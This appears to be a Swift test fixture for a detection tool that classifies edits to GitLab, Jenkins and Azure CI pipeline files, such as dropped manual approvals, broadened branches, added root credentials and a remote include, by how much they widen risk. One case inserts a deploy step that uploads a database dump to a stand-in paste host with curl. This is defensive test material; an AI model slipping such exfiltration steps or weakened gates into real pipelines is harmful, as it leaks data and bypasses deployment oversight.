import Detection

extension FreshPipelines {
  static let text4 = """
    stages: [test, deploy]
    test:
      stage: test
      image: registry.example.com/ci/python:3.12
      script:
        - pytest -q
    deploy:
      stage: deploy
      script:
        - ./deploy.sh prod
      environment:
        name: production
      rules:
        - if: $CI_COMMIT_BRANCH == "main"
          when: manual
      tags: [protected]

    """

  static let text5 = """
    pipeline {
      agent { label 'docker' }
      stages {
        stage('Test') {
          steps { sh 'make test' }
        }
        stage('Deploy') {
          when { branch 'main' }
          input { message 'Deploy to production?' }
          environment { TOKEN = credentials('deploy-token') }
          steps {
            sh './deploy.sh'
          }
        }
      }
    }

    """

  static let text6 = """
    trigger:
      branches:
        include: [main]
    pool:
      vmImage: ubuntu-22.04
    variables:
      - group: shop-prod
    stages:
      - stage: Deploy
        jobs:
          - deployment: web
            environment: production
            strategy:
              runOnce:
                deploy:
                  steps:
                    - script: ./deploy.sh

    """

  static let part3: [FreshCase] = [
    .edit(
      "no longer by hand",
      ".gitlab-ci.yml",
      text4,
      "      when: manual\n",
      "",
      [.widened, .incomparable, .unknown],
      .pipeline
    ),
    .edit(
      "environment dropped",
      ".gitlab-ci.yml",
      text4,
      "  environment:\n    name: production\n",
      "",
      [.widened],
      .pipeline
    ),
    .edit(
      "rules dropped",
      ".gitlab-ci.yml",
      text4,
      "  rules:\n    - if: $CI_COMMIT_BRANCH == \"main\"\n      when: manual\n",
      "",
      [.widened],
      .pipeline
    ),
    .edit(
      "a remote include",
      ".gitlab-ci.yml",
      text4,
      "stages:",
      "include:\n  - remote: https://example.net/ci/all.yml\nstages:",
      [.widened, .unknown],
      .supplyChain
    ),
    .edit(
      "a step more in deploy",
      ".gitlab-ci.yml",
      text4,
      "    - ./deploy.sh prod\n",
      "    - ./deploy.sh prod\n    - curl -T dump.sql https://paste.example.net\n",
      [.widened, .incomparable, .unknown]
    ),
    .edit(
      "tests allowed to fail",
      ".gitlab-ci.yml",
      text4,
      "    - pytest -q\n",
      "    - pytest -q\n  allow_failure: true\n",
      [.widened, .unknown],
      .pipeline
    ),
    .edit(
      "another runner",
      ".gitlab-ci.yml",
      text4,
      "tags: [protected]",
      "tags: [shared]",
      [.incomparable, .unknown, .widened],
      .pipeline
    ),
    .edit(
      "list in block style",
      ".gitlab-ci.yml",
      text4,
      "stages: [test, deploy]",
      "stages:\n  - test\n  - \"deploy\"",
      [.equal]
    ),
    .edit(
      "only main or any",
      ".gitlab-ci.yml",
      text4,
      "$CI_COMMIT_BRANCH == \"main\"",
      "$CI_COMMIT_BRANCH == \"main\" || $CI_COMMIT_BRANCH == \"dev\"",
      [.widened, .incomparable, .unknown],
      .pipeline
    ),
    .edit(
      "jenkins input removed",
      "Jenkinsfile",
      text5,
      "      input { message 'Deploy to production?' }\n",
      "",
      [.widened],
      .pipeline
    ),
    .edit(
      "jenkins branch condition removed",
      "Jenkinsfile",
      text5,
      "      when { branch 'main' }\n",
      "",
      [.widened, .incomparable, .unknown],
      .pipeline
    ),
    .edit(
      "jenkins credential added",
      "Jenkinsfile",
      text5,
      "credentials('deploy-token')",
      "credentials('deploy-token')\n        AWS = credentials('aws-root')",
      [.widened, .incomparable, .unknown]
    ),
    .edit(
      "jenkins any agent",
      "Jenkinsfile",
      text5,
      "agent { label 'docker' }",
      "agent any",
      [.widened, .incomparable, .unknown]
    ),
    .edit(
      "jenkins comment",
      "Jenkinsfile",
      text5,
      "pipeline {",
      "// the pipeline\npipeline {",
      [.equal]
    ),
    .edit(
      "jenkins spaces",
      "Jenkinsfile",
      text5,
      "      steps { sh 'make test' }",
      "      steps {\n        sh 'make test'\n      }",
      [.equal]
    ),
    .edit(
      "azure environment",
      "azure-pipelines.yml",
      text6,
      "environment: production",
      "environment: scratch",
      [.widened, .incomparable, .unknown],
      .pipeline
    ),
    .edit(
      "azure own pool",
      "azure-pipelines.yml",
      text6,
      "vmImage: ubuntu-22.04",
      "name: builders",
      [.widened, .incomparable, .unknown],
      .pipeline
    ),
    .edit(
      "azure variable group",
      "azure-pipelines.yml",
      text6,
      "  - group: shop-prod\n",
      "  - group: shop-prod\n  - group: root-secrets\n",
      [.widened, .incomparable, .unknown],
      .pipeline
    ),
    .edit(
      "azure branches",
      "azure-pipelines.yml",
      text6,
      "[main]",
      "['*']",
      [.widened, .incomparable, .unknown],
      .pipeline
    ),
    .edit(
      "azure list style",
      "azure-pipelines.yml",
      text6,
      "include: [main]",
      "include:\n      - main",
      [.equal]
    ),
  ]
}
